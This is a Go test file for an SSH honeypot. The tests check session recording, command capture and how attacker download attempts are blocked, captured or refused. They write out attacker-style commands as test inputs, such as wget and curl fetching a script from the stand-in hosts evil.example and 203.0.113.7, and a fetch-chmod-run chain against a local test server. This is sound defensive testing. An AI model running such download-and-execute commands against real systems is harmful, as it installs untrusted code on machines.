package ssh

import (
	"bytes"
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/decnet-go/decnet/internal/event"
	"github.com/decnet-go/decnet/internal/honeypot/asciicast"
	"github.com/decnet-go/decnet/internal/testkit/gate"
)

// TestOpenSSHSessionRecorded types into a real ssh -tt session line by
// line and checks the asciicast: input events with their own, increasing
// timestamps, the shell's output, and the session_recorded event.
func TestOpenSSHSessionRecorded(t *testing.T) {
	gate.Tool(t, "ssh")
	gate.Tool(t, "sshpass")
	state := stateWithKeys(t)
	srv := startServer(t, state, nil)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	argv := append([]string{"-p", rootPassword(srv.persona), "ssh"}, clientOpts...)
	argv = append(argv, "-tt", "-p", port(srv), "root@127.0.0.1")
	cmd := exec.CommandContext(ctx, "sshpass", argv...)
	pr, pw := io.Pipe()
	cmd.Stdin = pr
	var out bytes.Buffer
	cmd.Stdout = &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	srv.rec.WaitFor(t, event.TypeLoginAttempt, 1)
	time.Sleep(300 * time.Millisecond) // the prompt
	for _, k := range "id\r" {
		pw.Write([]byte(string(k)))
		time.Sleep(30 * time.Millisecond)
	}
	srv.rec.WaitFor(t, event.TypeCommand, 1)
	pw.Write([]byte("exit\r"))
	time.Sleep(200 * time.Millisecond)
	pw.Close()
	if err := cmd.Wait(); err != nil {
		t.Fatalf("ssh: %v\n%s", err, out.String())
	}

	e := srv.rec.WaitFor(t, asciicast.TypeSessionRecorded, 1)[0]
	f := e.Fields
	if f["service"] != "ssh" || f["truncated"] != false || f["username"] != "root" || f["commands"] != 2 || f["tty"] != true {
		t.Errorf("session_recorded %v", f)
	}
	if d, _ := f["duration_s"].(float64); d <= 0 {
		t.Errorf("duration_s %v", f["duration_s"])
	}
	stored, _ := f["stored_as"].(string)
	data, err := os.ReadFile(filepath.Join(state, stored))
	if err != nil {
		t.Fatal(err)
	}
	if f["bytes"] != int64(len(data)) {
		t.Errorf("bytes %v, file has %d", f["bytes"], len(data))
	}
	h, evs, err := asciicast.Parse(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	if h.Version != 2 || h.Width == 0 || h.Height == 0 || h.Env["SHELL"] != "/bin/bash" || h.Env["TERM"] == "" {
		t.Errorf("header %+v", h)
	}
	var typed []asciicast.Event
	var output strings.Builder
	for _, ev := range evs {
		switch ev.Code {
		case asciicast.Input:
			typed = append(typed, ev)
		case asciicast.Output:
			output.WriteString(ev.Data)
		}
	}
	if len(typed) < 4 || typed[0].Data != "i" || typed[1].Data != "d" || typed[2].Data != "\r" {
		t.Fatalf("input events %+v", typed)
	}
	for i := 1; i < 3; i++ {
		if typed[i].Time <= typed[i-1].Time {
			t.Errorf("keystroke %d at %.6f, not after %.6f", i, typed[i].Time, typed[i-1].Time)
		}
	}
	uid := "uid=0(root) gid=0(root) groups=0(root)"
	if !strings.Contains(output.String(), "root@"+srv.persona.Hostname+":~# id\r\n") || !strings.Contains(output.String(), uid) {
		t.Errorf("recorded output:\n%q", output.String())
	}
}

// TestExecIsRecorded checks an exec session is recorded too, with the
// command as a marker.
func TestExecIsRecorded(t *testing.T) {
	state := stateWithKeys(t)
	srv := startServer(t, state, nil)
	cl, err := ssh.Dial("tcp", srv.addr, clientConfig("root", rootPassword(srv.persona), nil))
	if err != nil {
		t.Fatal(err)
	}
	defer cl.Close()
	sess, _ := cl.NewSession()
	if out, err := sess.Output("uname -m"); err != nil || string(out) != "x86_64\n" {
		t.Fatalf("exec: %q %v", out, err)
	}
	f := srv.rec.WaitFor(t, asciicast.TypeSessionRecorded, 1)[0].Fields
	data, _ := os.ReadFile(filepath.Join(state, f["stored_as"].(string)))
	_, evs, err := asciicast.Parse(bytes.NewReader(data))
	if err != nil || len(evs) < 2 || evs[0].Code != asciicast.Marker || evs[0].Data != "exec: uname -m" || evs[1].Data != "x86_64\n" {
		t.Errorf("recording %+v %v", evs, err)
	}
	if f["tty"] != false || f["commands"] != 1 {
		t.Errorf("session_recorded %v", f)
	}
}

func execOutput(t *testing.T, srv *testServer, cmd string) string {
	t.Helper()
	cl, err := ssh.Dial("tcp", srv.addr, clientConfig("root", rootPassword(srv.persona), nil))
	if err != nil {
		t.Fatal(err)
	}
	defer cl.Close()
	sess, err := cl.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	out, _ := sess.CombinedOutput(cmd)
	return string(out)
}

func TestWgetDisabledIsReported(t *testing.T) {
	srv := startServer(t, stateWithKeys(t), nil)
	out := execOutput(t, srv, "cd /tmp; wget http://evil.example/x86.sh; curl -O http://203.0.113.7/m")
	if !strings.Contains(out, "wget: unable to resolve host address") || !strings.Contains(out, "curl: (7) Failed to connect to 203.0.113.7 port 80") {
		t.Errorf("output %q", out)
	}
	evs := srv.rec.WaitFor(t, typeDownload, 2)
	want := []map[string]any{
		{"url": "http://evil.example/x86.sh", "tool": "wget", "username": "root", "cwd": "/tmp", "outcome": "blocked"},
		{"url": "http://203.0.113.7/m", "tool": "curl", "username": "root", "cwd": "/tmp", "outcome": "blocked"},
	}
	for i, w := range want {
		for k, v := range w {
			if evs[i].Fields[k] != v {
				t.Errorf("download_attempt %d: %s = %v, want %v", i, k, evs[i].Fields[k], v)
			}
		}
	}
	if len(srv.rec.OfType(event.TypeFileCaptured)) != 0 {
		t.Error("a disabled download captured a file")
	}
}

func TestWgetEnabledFetchesLoopback(t *testing.T) {
	allowPrivateFetch = true
	t.Cleanup(func() { allowPrivateFetch = false })
	payload := []byte("#!/bin/sh\necho payload-ran\n")
	var ua string
	hs := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		ua = r.UserAgent()
		if r.URL.Path == "/big" {
			w.Write(bytes.Repeat([]byte("A"), 5000))
			return
		}
		if r.URL.Path != "/bins.sh" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/x-sh")
		w.Write(payload)
	}))
	defer hs.Close()
	state := stateWithKeys(t)
	srv := startServer(t, state, map[string]string{"downloads": "true", "download_max_bytes": "1000"})
	out := execOutput(t, srv, "cd /tmp; wget "+hs.URL+"/bins.sh; chmod +x bins.sh; ./bins.sh")
	if !strings.Contains(out, "200 OK") || !strings.Contains(out, "saved [27/27]") || !strings.HasSuffix(out, "payload-ran\n") {
		t.Errorf("output %q", out)
	}
	if !strings.HasPrefix(ua, "Wget/") {
		t.Errorf("User-Agent %q", ua)
	}
	fc := srv.rec.WaitFor(t, event.TypeFileCaptured, 1)[0]
	if fc.Fields["sha256"] != sha(payload) || fc.Fields["orig_path"] != hs.URL+"/bins.sh" || fc.Fields["method"] != "wget" {
		t.Errorf("file_captured %v", fc.Fields)
	}
	if got, _ := os.ReadFile(filepath.Join(state, "artifacts", fc.Fields["stored_as"].(string))); !bytes.Equal(got, payload) {
		t.Errorf("artifact %q", got)
	}
	da := srv.rec.WaitFor(t, typeDownload, 1)[0]
	if da.Fields["outcome"] != "fetched" || da.Fields["http_status"] != 200 {
		t.Errorf("download_attempt %v", da.Fields)
	}

	// A 404 is not captured; curl without -f still exits 0.
	if out := execOutput(t, srv, "curl -s "+hs.URL+"/nosuch -o /dev/null; echo $?"); out != "0\n" {
		t.Errorf("curl of a 404: %q", out)
	}
	// The cap: a larger payload is cut at download_max_bytes.
	execOutput(t, srv, "curl -s -o /tmp/big "+hs.URL+"/big")
	fc = srv.rec.WaitFor(t, event.TypeFileCaptured, 2)[1]
	if fc.Fields["size"] != int64(1000) || fc.Fields["sha256"] != sha(bytes.Repeat([]byte("A"), 1000)) {
		t.Errorf("capped capture %v", fc.Fields)
	}
}

func TestFetchRefusesPrivateAddresses(t *testing.T) {
	hs := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("secret")) }))
	defer hs.Close()
	srv := startServer(t, stateWithKeys(t), map[string]string{"downloads": "true"})
	out := execOutput(t, srv, "curl "+hs.URL+"/")
	if strings.Contains(out, "secret") || !strings.Contains(out, "curl: (7) Failed to connect to 127.0.0.1") {
		t.Errorf("output %q", out)
	}
	if da := srv.rec.WaitFor(t, typeDownload, 1)[0]; da.Fields["outcome"] != "failed" {
		t.Errorf("download_attempt %v", da.Fields)
	}
}

func TestDownloadConfigErrors(t *testing.T) {
	for _, cfg := range []map[string]string{{"downloads": "maybe"}, {"download_max_bytes": "-1"}, {"download_max_bytes": "999999999999"}} {
		if _, err := newFetcher(cfg); err == nil {
			t.Errorf("%v accepted", cfg)
		}
	}
}
